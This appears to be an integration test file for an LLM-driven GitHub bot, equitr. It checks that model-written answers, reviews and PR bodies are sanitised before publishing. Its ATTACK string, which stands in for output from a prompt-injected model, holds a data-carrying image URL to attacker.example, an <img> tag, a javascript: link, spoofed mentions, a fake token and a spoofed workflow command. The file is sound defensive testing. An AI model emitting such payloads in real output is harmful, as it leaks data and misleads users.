"""P2a, end to end: model-written Markdown is sanitised wherever equitr publishes it.

A scripted model (standing in for a model steered by hostile input) puts a remote image that carries data
in its URL, a team mention, an `<img>` tag, a `javascript:` link and an encoded mention into its answer,
its review (summary and inline comment) and the supervisor's reason that becomes the pull request's body.
Each job runs through a signed webhook against the fake GitHub; what reached GitHub is rendered with GitHub's
own Markdown parser (`markdown_oracle`) and must show none of it. The review found all of it verbatim, and
the PR body not even redacted.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

from tests.integration.test_github_e2e import (
    PLAN,
    REPO,
    World,
    comment,
    open_pr,
    push_to_default_branch,
    ref,
    run_job,
    world,
)
from tests.security.markdown_oracle import problems

__all__ = ["world"]

ATTACK = (
    "Done. ![s](https://attacker.example/px.png?d=SECRETDATA) cc @octo/security-team "
    '<img src="https://attacker.example/i.png"> [docs](javascript:alert(1)) &#64;mallory '
    "ghs_" + "L3ak" * 12 + "\n\n::error title=equitr::SPOOFED"
)
# equitr's own template HTML (markers, <details>, <sub>) and its mention of the requester: not model text.
TEMPLATE_HTML = re.compile(
    r"<!-- equitr:[a-z-]+:[\w.#@/-]+ -->|</?details>|<summary>[^<]*</summary>|</?sub>|asked by @alice"
)


def assert_clean(published: str) -> None:
    assert "attacker.example" not in published and "SECRETDATA" not in published
    assert "<img" not in published.lower() and "javascript:" not in published.lower()
    assert "@octo/security-team" not in published and "&#64;mallory" not in published.replace("&amp;", "")
    assert "L3akL3ak" not in published
    assert problems(TEMPLATE_HTML.sub("", published)) == [], published


async def test_an_answer_is_published_sanitised(world: World) -> None:
    w = world
    look = json.dumps({"execution_steps": [{"step": 1, "tool": "search", "parameters": {"query": "def mean"}}]})
    w.model.script += [look, ATTACK]
    _, asked = await comment(w, "/equitr ask how does mean() work? cc @octo/security-team")
    assert (await run_job(w, asked)).state == "done"
    (answer,) = [c["body"] for c in w.fake.issue_comments(REPO, 1) if "equitr:answer" in c["body"]]
    assert "Done." in answer
    assert_clean(answer)


async def test_a_review_is_published_sanitised(world: World) -> None:
    w = world
    inline = json.dumps({"comments": [{"line": 2, "body": ATTACK, "suggestion": "    total = a + b"}]})
    w.model.script += [ATTACK, inline]
    _, reviewed = await open_pr(w)
    assert (await run_job(w, reviewed)).state == "done"
    (review,) = w.fake.pull_reviews(REPO, 2)
    (comment_,) = list(w.fake.review_comments.values())
    (summary,) = [c["body"] for c in w.fake.issue_comments(REPO, 2) if "equitr:review-summary" in c["body"]]
    for published in (review["body"], comment_["body"], summary):
        assert "Done." in published
        assert_clean(published)
    assert "```suggestion\n    total = a + b\n```" in comment_["body"]  # kept exact


async def test_a_pull_request_body_is_published_sanitised_and_redacted(world: World, tmp_path: Path) -> None:
    w = world
    check = "python -c 'import mathutil; assert mathutil.mean([1, 2, 3]) == 2'"  # no test runner needed
    push_to_default_branch(w, tmp_path, {".equitr.toml": f'[fix]\ntest_command = "{check}"\n'})
    accept = json.dumps({"decision": "accept", "reason": ATTACK})
    w.model.script += [PLAN, accept]
    _, fixed = await comment(w, "/equitr fix")
    outcome = await run_job(w, fixed)
    assert outcome.state == "done", outcome
    (pr,) = w.fake.repo(REPO).pulls.values()
    assert "Done." in pr["body"]
    assert_clean(pr["body"])
    mark = f"equitr:status:{ref(w, fixed['jobs'][0])}"  # a job's markers carry its uid
    status = [c["body"] for c in w.fake.issue_comments(REPO, 1) if mark in c["body"]]
    assert_clean(status[0])
